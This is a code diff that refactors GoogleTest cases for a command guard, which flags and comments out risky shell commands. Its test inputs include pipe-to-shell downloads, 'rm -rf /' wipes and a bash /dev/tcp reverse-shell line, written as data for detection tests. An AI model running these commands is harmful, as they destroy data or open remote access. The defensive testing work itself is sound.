@@ -1,9 +1,7 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-#include <gtest/gtest.h>
-
 #include "core/guard/CommandGuard.h"
-#include "core/guard/RuleBundle.h"
-#include "tests/guard/GuardTestSupport.h"
+
+#include <gtest/gtest.h>
 
 #include <string>
 #include <thread>
@@ -11,135 +9,103 @@
 #include <utility>
 #include <vector>
 
+#include "core/guard/RuleBundle.h"
+#include "tests/guard/GuardTestSupport.h"
+
 namespace tessaril {
 namespace {
 
-using testing::TemporaryDirectory;
-using testing::writeFile;
+using Severity = CommandRiskSeverity;
+using Strings = std::vector<std::string>;
 
 std::string rulesFile(const std::string& version, const std::vector<RuleDefinition>& rules) {
-    RuleBundle bundle{version, rules};
-    return bundle.toJson().dump();
+    return RuleBundle{version, rules}.toJson().dump();
 }
 
-RuleDefinition rule(std::string id, CommandRiskSeverity severity, std::string pattern) {
+RuleDefinition rule(std::string id, Severity severity, std::string pattern) {
     std::string summary = "summary of " + id;
     return {std::move(id), "bash", severity, std::move(pattern), std::move(summary), "explanation"};
 }
 
-CommandGuard guardWith(const std::vector<RuleDefinition>& rules, const std::string& version = "1.0") {
-    const auto data = rulesFile(version, rules);
-    return CommandGuard::fromRulesData(data);
+CommandGuard guardWith(const std::vector<RuleDefinition>& rules) {
+    return CommandGuard::fromRulesData(rulesFile("1.0", rules));
 }
 
-std::vector<std::string> ids(const CommandRiskResult& result) {
-    std::vector<std::string> out;
-    for (const auto& finding : result.findings)
+Strings ids(const std::optional<CommandRiskResult>& result) {
+    Strings out;
+    for (const auto& finding : result ? result->findings : std::vector<CommandRiskFinding>{})
         out.push_back(finding.id);
     return out;
 }
 
 TEST(CommandGuard, ContinuationsAreJoinedAndTheCommandTrimmed) {
-    const auto guard = guardWith({rule("pipe", CommandRiskSeverity::warning, "curl [^ ]+ \\| sh")});
+    const auto guard = guardWith({rule("pipe", Severity::warning, "curl [^ ]+ \\| sh")});
     for (const char* text : {"curl x | sh", "curl\\\nx | sh", "curl\\\r\nx | sh", "curl`\nx | sh", "curl`\r\nx | sh",
                              "  \n\tcurl x | sh \r\n "}) {
         const auto result = guard.analyze(text);
         ASSERT_TRUE(result.has_value()) << text;
+        EXPECT_EQ(result->command, "curl x | sh") << text;
         EXPECT_EQ(result->findings.at(0).matchedText, "curl x | sh") << text;
     }
-    EXPECT_EQ(guard.analyze("  curl\\\nx | sh\n")->command, "curl x | sh");
     // A bare line break is not a continuation.
-    EXPECT_FALSE(guard.analyze("curl\nx | sh").has_value());
+    for (const char* text : {"curl\nx | sh", "", " \n\t\r\n \xE2\x80\x83"})
+        EXPECT_FALSE(guard.analyze(text).has_value()) << text;
     EXPECT_EQ(CommandGuard::normalizedCommand("a\\\\\nb"), "a\\ b");
-
-    EXPECT_FALSE(guard.analyze("").has_value());
-    EXPECT_FALSE(guard.analyze(" \n\t\r\n \xE2\x80\x83").has_value());
 }
 
-TEST(CommandGuard, ThresholdFiltersBySeverity) {
-    const auto guard = guardWith({rule("note", CommandRiskSeverity::info, "sudo"),
-                                  rule("pipe", CommandRiskSeverity::warning, "\\| sh"),
-                                  rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
-    EXPECT_FALSE(guard.analyze("curl x | sh", CommandRiskSeverity::danger).has_value());
-    const auto atWarning = guard.analyze("curl x | sh", CommandRiskSeverity::warning);
-    ASSERT_TRUE(atWarning.has_value());
-    EXPECT_EQ(ids(*atWarning), std::vector<std::string>{"pipe"});
-    EXPECT_EQ(atWarning->severity, CommandRiskSeverity::warning);
-
-    EXPECT_FALSE(guard.analyze("sudo ls").has_value());
-    const auto everything = guard.analyze("sudo curl x | sh; sudo rm -rf /", CommandRiskSeverity::info);
-    ASSERT_TRUE(everything.has_value());
-    EXPECT_EQ(ids(*everything), (std::vector<std::string>{"wipe", "pipe", "note"}));
-    EXPECT_EQ(everything->severity, CommandRiskSeverity::danger);
-    EXPECT_EQ(guard.analyze("sudo rm -rf /", CommandRiskSeverity::danger)->findings.size(), 1U);
+// Findings at or above the threshold, the most severe first, then by identifier.
+TEST(CommandGuard, ThresholdAndOrderOfFindings) {
+    const auto guard = guardWith({rule("note", Severity::info, "sudo"), rule("pipe", Severity::warning, "\\| sh"),
+                                  rule("b", Severity::warning, "@@"), rule("a", Severity::warning, "@@"),
+                                  rule("wipe", Severity::danger, "rm -rf /"), rule("z", Severity::danger, "@@")});
+    EXPECT_EQ(ids(guard.analyze("sudo ls")), Strings{});
+    EXPECT_EQ(ids(guard.analyze("curl x | sh", Severity::danger)), Strings{});
+    EXPECT_EQ(ids(guard.analyze("curl x | sh")), Strings{"pipe"});
+    const auto everything = guard.analyze("sudo curl x | sh; sudo rm -rf /", Severity::info);
+    EXPECT_EQ(ids(everything), (Strings{"wipe", "pipe", "note"}));
+    EXPECT_EQ(everything->severity, Severity::danger);
+    EXPECT_EQ(everything->rulesVersion, "1.0");
+    EXPECT_EQ(ids(guard.analyze("@@", Severity::info)), (Strings{"z", "a", "b"}));
+    EXPECT_EQ(guard.analyze("@@")->primaryFinding()->id, "z");
 }
 
-TEST(CommandGuard, FindingsAreOrderedBySeverityThenId) {
-    const auto guard =
-        guardWith({rule("b", CommandRiskSeverity::warning, "x"), rule("a", CommandRiskSeverity::warning, "x"),
-                   rule("z", CommandRiskSeverity::danger, "x"), rule("c", CommandRiskSeverity::info, "x")});
-    const auto result = guard.analyze("x", CommandRiskSeverity::info);
-    ASSERT_TRUE(result.has_value());
-    EXPECT_EQ(ids(*result), (std::vector<std::string>{"z", "a", "b", "c"}));
-    EXPECT_EQ(result->primaryFinding()->id, "z");
-    EXPECT_EQ(result->rulesVersion, "1.0");
-    const auto& first = result->findings.front();
-    EXPECT_EQ(first.platform, "bash");
-    EXPECT_EQ(first.summary, "summary of z");
-    EXPECT_EQ(first.explanation, "explanation");
-}
-
+// Matches over 160 user-perceived characters are cut after 157, never inside a character.
 TEST(CommandGuard, LongMatchesAreCutByUserPerceivedCharacters) {
-    const auto guard = guardWith({rule("long", CommandRiskSeverity::warning, "X.*")});
-    const auto cut = guard.analyze("X" + std::string(199, 'a'));
-    ASSERT_TRUE(cut.has_value());
-    EXPECT_EQ(cut->findings[0].matchedText, "X" + std::string(156, 'a') + "...");
-    EXPECT_EQ(cut->command.size(), 200U);
-
+    const auto guard = guardWith({rule("long", Severity::warning, "X.*"), rule("spaced", Severity::info, "a\\s+")});
     const std::string exactly160 = "X" + std::string(159, 'a');
     EXPECT_EQ(guard.analyze(exactly160)->findings[0].matchedText, exactly160);
     EXPECT_EQ(guard.analyze(exactly160 + "a")->findings[0].matchedText, "X" + std::string(156, 'a') + "...");
-
-    // "e" + combining acute accent is one character on screen but three bytes: 160 of them are not cut,
-    // 161 are cut after 157 whole clusters, never inside one.
+    // "e" + combining acute accent is one character on screen but three bytes.
     std::string accented = "X";
-    for (int i = 0; i < 159; ++i)
+    for (int i = 0; i < 160; ++i)
         accented += "e\xCC\x81";
-    EXPECT_EQ(guard.analyze(accented)->findings[0].matchedText, accented);
-    const auto accentedCut = guard.analyze(accented + "e\xCC\x81")->findings[0].matchedText;
-    EXPECT_EQ(accentedCut, accented.substr(0, 1 + 156 * 3) + "...");
-
+    EXPECT_EQ(guard.analyze(accented)->findings[0].matchedText, accented.substr(0, 1 + 156 * 3) + "...");
     // The fragment is trimmed before it is measured.
-    const auto trimmed = guardWith({rule("spaced", CommandRiskSeverity::warning, "a\\s+")}).analyze("a    b");
-    EXPECT_EQ(trimmed->findings[0].matchedText, "a");
+    EXPECT_EQ(guard.analyze("a    b", Severity::info)->findings[0].matchedText, "a");
 }
 
-TEST(CommandGuard, SizeCapAndOwnOutputAreNotExamined) {
-    const auto guard = guardWith({rule("any", CommandRiskSeverity::warning, "rm")});
-    std::string atCap = "rm " + std::string(CommandGuard::maximumCommandBytes - 3, 'x');
-    EXPECT_TRUE(guard.analyze(atCap).has_value());
-    EXPECT_FALSE(guard.analyze(atCap + "x").has_value());
-    // Trimming happens first: padding does not push a command over the cap.
+// The size limit is on the text as examined: after trimming, with every malformed byte counted as
+// the replacement character (three bytes) it becomes. Only the product's own output is inert,
+// judged as pasted: every line after the header a comment as neutralizedCommand writes it.
+TEST(CommandGuard, SizeLimitAndOwnOutputAreNotExamined) {
+    const auto guard = guardWith({rule("any", Severity::warning, "rm")});
+    const std::string atLimit = "rm " + std::string(CommandGuard::maximumCommandBytes - 3, 'x');
+    EXPECT_TRUE(guard.analyze(atLimit).has_value());
+    EXPECT_FALSE(guard.analyze(atLimit + "x").has_value());
     EXPECT_TRUE(guard.analyze(std::string(40000, ' ') + "rm -rf /" + std::string(40000, '\n')).has_value());
-    // The cap is on the text as UTF-8: bytes that are not UTF-8 count as the replacement characters
-    // they become (three bytes each), so the reported command never exceeds the cap.
     std::string broken = "rm " + std::string(CommandGuard::maximumCommandBytes - 13, 'x') + std::string(10, '\xFF');
-    ASSERT_EQ(broken.size(), CommandGuard::maximumCommandBytes);
     EXPECT_FALSE(guard.analyze(broken).has_value());
     EXPECT_FALSE(CommandGuard::examinedCommand(broken).has_value());
     broken.erase(broken.size() - 30, 20);  // 20 fewer bytes: 32,748 plus 20 for the repair
     EXPECT_EQ(guard.analyze(broken)->command.size(), CommandGuard::maximumCommandBytes);
-    EXPECT_EQ(CommandGuard::examinedCommand(broken)->text(), guard.analyze(broken)->command);
-    // Ten megabytes are refused without examining them.
-    EXPECT_FALSE(guard.analyze(std::string(10 * 1024 * 1024, 'r') + "m").has_value());
+    // A NUL is kept; malformed bytes are repaired, so the verdict is valid UTF-8 for JSON.
+    EXPECT_EQ(guard.analyze(std::string("rm -rf /\0 x", 11))->command, std::string("rm -rf /\0 x", 11));
+    EXPECT_EQ(guard.analyze("\xFF\xFE rm \xC3")->command, "\xEF\xBF\xBD\xEF\xBF\xBD rm \xEF\xBF\xBD");
 
-    // Only the product's own output is inert, judged as pasted: every line after the header a
-    // comment as neutralizedCommand writes it. A live line anywhere after it is examined.
     const std::string header(CommandGuard::neutralizedHeader);
     const std::pair<std::string, bool> texts[] = {
-        {CommandGuard::neutralizedCommand("rm -rf /"), false},
+        // (That whatever neutralizedCommand writes passes, fuzz/CommandGuardFuzzer.cpp checks.)
         {"\n  " + CommandGuard::neutralizedCommand("rm -rf /\n\nrm -rf ~\r\nx\ry \\\nrm"), false},
-        {CommandGuard::neutralizedCommand(" \n"), false},
         {"echo hi\n" + CommandGuard::neutralizedCommand("rm -rf /"), true},
         {header + "\nrm -rf /", true},
         {header + "rm -rf /", true},
@@ -153,184 +119,124 @@ TEST(CommandGuard, SizeCapAndOwnOutputAreNotExamined) {
         EXPECT_EQ(guard.analyze(text).has_value(), flagged) << text;
 }
 
-TEST(CommandGuard, OddBytesNeverBreakTheAnalysis) {
-    const auto guard = guardWith({rule("wipe", CommandRiskSeverity::danger, "rm -rf /")});
-    const std::string withNul("rm -rf /\0 trailing", 18);
-    ASSERT_TRUE(guard.analyze(withNul).has_value());
-    EXPECT_EQ(guard.analyze(withNul)->command, withNul);
-    // A stray invalid byte must not switch the guard off, and the verdict must stay valid UTF-8 for JSON.
-    const auto invalid = guard.analyze("\xFF\xFE rm -rf / \xC3");
-    ASSERT_TRUE(invalid.has_value());
-    EXPECT_EQ(invalid->command, "\xEF\xBF\xBD\xEF\xBF\xBD rm -rf / \xEF\xBF\xBD");
-    EXPECT_NO_THROW((void)invalid->toJson().dump());
-}
-
-TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
-    const auto guard = guardWith(
-        {rule("bad", CommandRiskSeverity::danger, "(unclosed"), rule("good", CommandRiskSeverity::danger, "rm")});
-    ASSERT_EQ(guard.rules().size(), 1U);
-    EXPECT_EQ(guard.rules()[0].definition.id, "good");
-    EXPECT_EQ(ids(*guard.analyze("rm")), std::vector<std::string>{"good"});
-
-    EXPECT_FALSE(guard.rulesProblem().has_value());
-
-    using Problem = CommandGuard::RulesProblem;
-    const std::tuple<std::string, std::string, Problem> unusable[] = {
-        {"", "unavailable", Problem::undecodable},
-        {"{", "unavailable", Problem::undecodable},
-        {"{}", "unavailable", Problem::undecodable},
-        {R"({"currentVersion":"1","rules":[{"id":"a","platform":"p","severity":"urgent","pattern":"rm",
-            "summary":"s","explanation":"e"}]})",
-         "unavailable", Problem::undecodable},
-        {rulesFile("1", {}), "1", Problem::noRuleCompiles},
-        {rulesFile("2",
-                   {rule("bad", CommandRiskSeverity::danger, "(rm"), rule("worse", CommandRiskSeverity::info, "[")}),
-         "2", Problem::noRuleCompiles},
-    };
-    for (const auto& [data, version, problem] : unusable) {
-        const auto broken = CommandGuard::fromRulesData(data);
-        EXPECT_EQ(broken.rulesVersion(), version) << data;
-        EXPECT_EQ(broken.rulesProblem(), problem) << data;
-        EXPECT_TRUE(broken.rules().empty());
-        EXPECT_FALSE(broken.analyze("rm -rf /", CommandRiskSeverity::info).has_value());
-    }
-    EXPECT_EQ(CommandGuard::fromRulesData(std::nullopt).rulesVersion(), "unavailable");
-    EXPECT_EQ(CommandGuard::fromRulesData(std::nullopt).rulesProblem(), Problem::missing);
-}
-
 // A terminal without bracketed paste runs what follows a lone carriage return, so it starts a
-// commented line of its own (the fuzzer found that one); CR LF is still one line break.
+// commented line of its own; CR LF is still one line break.
 TEST(CommandGuard, NeutralizedTextCommentsEveryLine) {
-    const std::string header =
-        "# Tessaril neutralized a risky command copied to the clipboard.\n# Review before running anything below.\n";
     const std::pair<std::string, std::string> cases[] = {
         {"  rm -rf / \n", "# rm -rf /"},
         {"a\r\n\nb \\\nc", "# a\r\n# \n# b  c"},
         {"", "# "},
         {"echo hi\rrm -rf ~", "# echo hi\r# rm -rf ~"},
-        {"\x90\r{", "# \x90\r# {"},
         {"a\r\r\nb\n\rc", "# a\r# \r\n# b\n# \r# c"},
-        {"a\r\nb", "# a\r\n# b"},
         // Trimming takes a trailing carriage return, and a continuation before CR LF still joins lines.
         {"ls \\\r\n-la\r", "# ls  -la"},
     };
     for (const auto& [command, commented] : cases)
-        EXPECT_EQ(CommandGuard::neutralizedCommand(command), header + commented) << command;
+        EXPECT_EQ(CommandGuard::neutralizedCommand(command), std::string(CommandGuard::neutralizedHeader) + commented)
+            << command;
 }
 
-TEST(CommandGuard, RuleBundleVersionNeedsAVisibleVersion) {
+TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
+    const auto mixed = guardWith({rule("bad", Severity::danger, "(unclosed"), rule("good", Severity::danger, "rm")});
+    EXPECT_EQ(ids(mixed.analyze("rm")), Strings{"good"});
+    EXPECT_FALSE(mixed.rulesProblem().has_value());
+
+    using Problem = CommandGuard::RulesProblem;
+    const std::tuple<std::optional<std::string>, std::string, Problem> unusable[] = {
+        {std::nullopt, "unavailable", Problem::missing},
+        {"", "unavailable", Problem::undecodable},
+        {"{}", "unavailable", Problem::undecodable},
+        {R"({"currentVersion":"1","rules":[{"id":"a","platform":"p","severity":"urgent","pattern":"rm",
+            "summary":"s","explanation":"e"}]})",
+         "unavailable", Problem::undecodable},
+        {rulesFile("1", {}), "1", Problem::noRuleCompiles},
+        {rulesFile("2", {rule("bad", Severity::danger, "(rm"), rule("worse", Severity::info, "[")}), "2",
+         Problem::noRuleCompiles},
+    };
+    for (const auto& [data, version, problem] : unusable) {
+        const auto broken = CommandGuard::fromRulesData(data);
+        EXPECT_EQ(broken.rulesVersion(), version) << data.value_or("none");
+        EXPECT_EQ(broken.rulesProblem(), problem) << data.value_or("none");
+        EXPECT_FALSE(broken.analyze("rm -rf /", Severity::info).has_value());
+    }
+    // A version must show something.
     EXPECT_EQ(CommandGuard::ruleBundleVersion(rulesFile(" 2.0\n", {})), " 2.0\n");
     EXPECT_FALSE(CommandGuard::ruleBundleVersion(rulesFile(" \n\t", {})).has_value());
-    EXPECT_FALSE(CommandGuard::ruleBundleVersion("{}").has_value());
 }
 
-class CommandGuardFiles : public ::testing::Test {
-protected:
-    TemporaryDirectory folder;
-    FixedPaths paths{folder.path()};
-    std::filesystem::path root = folder.path() / "data" / "com.orvellelabs.tessaril";
-    std::filesystem::path active = root / "rules" / "active" / "command-guard-rules.json";
-    std::filesystem::path previous = root / "rules" / "previous" / "command-guard-rules.json";
-    std::filesystem::path legacy = root / "command-guard" / "active" / "command-guard-rules.json";
-    std::filesystem::path bundleDirectory = folder.path() / "bundle";
-};
-
-TEST_F(CommandGuardFiles, InstalledLocationPrefersActiveThenPreviousThenLegacy) {
-    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), legacy);
-    writeFile(previous, rulesFile("2", {}));
-    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
-    writeFile(active, rulesFile("  ", {}));
-    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
-    writeFile(active, "not json");
-    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
-    writeFile(active, rulesFile("3", {}));
-    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), active);
-}
-
-TEST_F(CommandGuardFiles, LoadsInstalledFileElseShippedFile) {
-    writeFile(bundleDirectory / "command-guard-rules.json",
-              rulesFile("shipped", {rule("shipped", CommandRiskSeverity::danger, "rm")}));
-    const ResourceBundle bundle(bundleDirectory);
+// The installed file is looked for under rules/active, then rules/previous, then the old
+// command-guard/active; an explicit or installed file that is unusable gives way to the shipped one,
+// which says which file it stands in for.
+TEST(CommandGuard, InstalledFileElseShippedFile) {
+    testing::TemporaryDirectory folder;
+    const FixedPaths paths{folder.path()};
+    const auto root = folder.path() / "data" / "com.orvellelabs.tessaril";
+    const auto active = root / "rules/active/command-guard-rules.json";
+    const auto previous = root / "rules/previous/command-guard-rules.json";
+    const auto legacy = root / "command-guard/active/command-guard-rules.json";
+    testing::writeFile(folder.path() / "bundle/command-guard-rules.json",
+                       rulesFile("shipped", {rule("shipped", Severity::danger, "rm")}));
+    const ResourceBundle bundle(folder.path() / "bundle");
     EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "shipped");
-    EXPECT_FALSE(CommandGuard(&bundle, &paths).passedOverInstalledRules().has_value());
     EXPECT_EQ(CommandGuard(nullptr, &paths).rulesVersion(), "unavailable");
-
-    writeFile(legacy, rulesFile("legacy", {rule("legacy", CommandRiskSeverity::danger, "rm")}));
+    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), legacy);
+    testing::writeFile(legacy, rulesFile("legacy", {rule("legacy", Severity::danger, "rm")}));
     EXPECT_EQ(CommandGuard(&bundle, &paths).rulesVersion(), "legacy");
-    writeFile(active, rulesFile("active", {rule("installed", CommandRiskSeverity::danger, "rm")}));
-    const CommandGuard installed(&bundle, &paths);
-    EXPECT_EQ(installed.rulesVersion(), "active");
-    EXPECT_EQ(installed.analyze("rm")->findings[0].id, "installed");
+    testing::writeFile(previous, rulesFile("previous", {rule("previous", Severity::danger, "rm")}));
+    for (const std::string& unusable : {rulesFile("  ", {}), std::string("not json")}) {
+        testing::writeFile(active, unusable);
+        EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
+    }
+    testing::writeFile(active, rulesFile("active", {rule("installed", Severity::danger, "rm")}));
+    EXPECT_EQ(ids(CommandGuard(&bundle, &paths).analyze("rm")), Strings{"installed"});
 
-    // An explicit file wins; when it does not decode or no rule in it compiles, the shipped file is
-    // used and says which file it stands in for.
-    const auto explicitFile = folder.path() / "mine.json";
-    writeFile(explicitFile, rulesFile("mine", {rule("mine", CommandRiskSeverity::danger, "rm")}));
-    EXPECT_EQ(CommandGuard(&bundle, &paths, explicitFile).rulesVersion(), "mine");
+    const auto explicitFile = testing::writeFile(folder.path() / "mine.json", "{}");
     for (const auto& [content, problem] : {std::pair{rulesFile("mine", {}), CommandGuard::RulesProblem::noRuleCompiles},
                                            {R"({"currentVersion":"x"})", CommandGuard::RulesProblem::undecodable}}) {
-        writeFile(explicitFile, content);
+        testing::writeFile(explicitFile, content);
         const CommandGuard fallback(&bundle, &paths, explicitFile);
         EXPECT_EQ(fallback.rulesVersion(), "shipped");
         ASSERT_TRUE(fallback.passedOverInstalledRules().has_value());
         EXPECT_EQ(fallback.passedOverInstalledRules()->file, explicitFile);
         EXPECT_EQ(fallback.passedOverInstalledRules()->problem, problem);
     }
-    // A shipped file that does not decode leaves the guard without rules.
-    writeFile(bundleDirectory / "command-guard-rules.json", "garbage");
-    EXPECT_EQ(CommandGuard(&bundle, nullptr, explicitFile).rulesVersion(), "unavailable");
 }
 
 TEST(CommandGuard, SharedGuardAnswersFromSeveralThreads) {
     const auto guard = testing::shippedGuard();
-    std::vector<std::thread> threads;
     std::vector<int> flagged(4, 0);
-    for (std::size_t t = 0; t < flagged.size(); ++t) {
-        threads.emplace_back([&guard, &flagged, t] {
-            for (int i = 0; i < 50; ++i) {
-                if (guard.analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")) ++flagged[t];
-                if (guard.analyze("git status")) --flagged[t];
-            }
-        });
+    {
+        std::vector<std::jthread> threads;
+        for (std::size_t t = 0; t < flagged.size(); ++t) {
+            threads.emplace_back([&guard, &count = flagged[t]] {
+                for (int i = 0; i < 50; ++i)
+                    count += guard.analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1") && !guard.analyze("git status");
+            });
+        }
     }
-    for (auto& thread : threads)
-        thread.join();
-    for (int count : flagged)
-        EXPECT_EQ(count, 50);
+    EXPECT_EQ(flagged, std::vector<int>(4, 50));
 }
 
-// Each alternative of a top-level alternation must be met as a whole, so a text holding a
-// fragment of one alternative and a fragment of another is skipped; bars inside groups, classes or
-// escapes do not split, and a pattern that cannot be split for certain keeps the plain filter.
+// Each alternative of a top-level alternation must be met as a whole, so a text holding a fragment
+// of one alternative and a fragment of another is skipped; bars inside groups, classes or escapes
+// do not split, and a pattern that cannot be split for certain keeps the plain filter.
 TEST(CommandGuard, AlternativesAreFilteredOneByOne) {
     const auto guard = guardWith({
-        rule("split", CommandRiskSeverity::danger, "(?i)(?:alpha|beta)\\s+x1|gamma(?:y2|z3)"),
-        rule("escaped", CommandRiskSeverity::danger, "a\\|b|c[|]d|e(?:f|g)h"),
-        rule("flags", CommandRiskSeverity::danger, "one(?x) two|three"),
+        rule("split", Severity::danger, "(?i)(?:alpha|beta)\\s+x1|gamma(?:y2|z3)"),
+        rule("escaped", Severity::danger, "a\\|b|c[|]d|e(?:f|g)h"),
+        rule("flags", Severity::danger, "one(?x) two|three"),
     });
-    ASSERT_EQ(guard.rules().size(), 3u);
     const auto mayMatch = [&guard](std::size_t index, const std::string& text) {
-        return guard.rules()[index].mayMatch(text, RulePrefilter::foldForMatching(text));
+        return guard.rules().at(index).mayMatch(text, RulePrefilter::foldForMatching(text));
     };
-    const auto& split = guard.rules()[0];
-    EXPECT_EQ(split.alternativePrefilters.size(), 2u);
-    EXPECT_TRUE(split.prefilter.mayMatch("alpha gamma", "alpha gamma"));  // the whole-pattern filter lets it by
+    EXPECT_EQ(guard.rules()[0].alternativePrefilters.size(), 2u);
     EXPECT_FALSE(mayMatch(0, "alpha gamma"));
     EXPECT_FALSE(mayMatch(0, "BETA z3"));
-    EXPECT_TRUE(mayMatch(0, "BETA  X1"));
-    EXPECT_TRUE(mayMatch(0, "gammaz3"));
-    EXPECT_TRUE(guard.analyze("run BETA  X1 now").has_value());
-    EXPECT_TRUE(guard.analyze("gammaZ3").has_value());
-
     EXPECT_EQ(guard.rules()[1].alternativePrefilters.size(), 3u);
-    for (const char* text : {"a|b", "c|d", "egh"}) {
-        EXPECT_TRUE(mayMatch(1, text)) << text;
-        EXPECT_TRUE(guard.analyze(text).has_value()) << text;
-    }
     EXPECT_FALSE(mayMatch(1, "ab c eh"));
-
     EXPECT_TRUE(guard.rules()[2].alternativePrefilters.empty());
-    EXPECT_TRUE(guard.analyze("three").has_value());
+    for (const char* text : {"run BETA  X1 now", "gammaZ3", "a|b", "c|d", "egh", "three"})
+        EXPECT_TRUE(guard.analyze(text).has_value()) << text;
 }
 
 }  // namespace
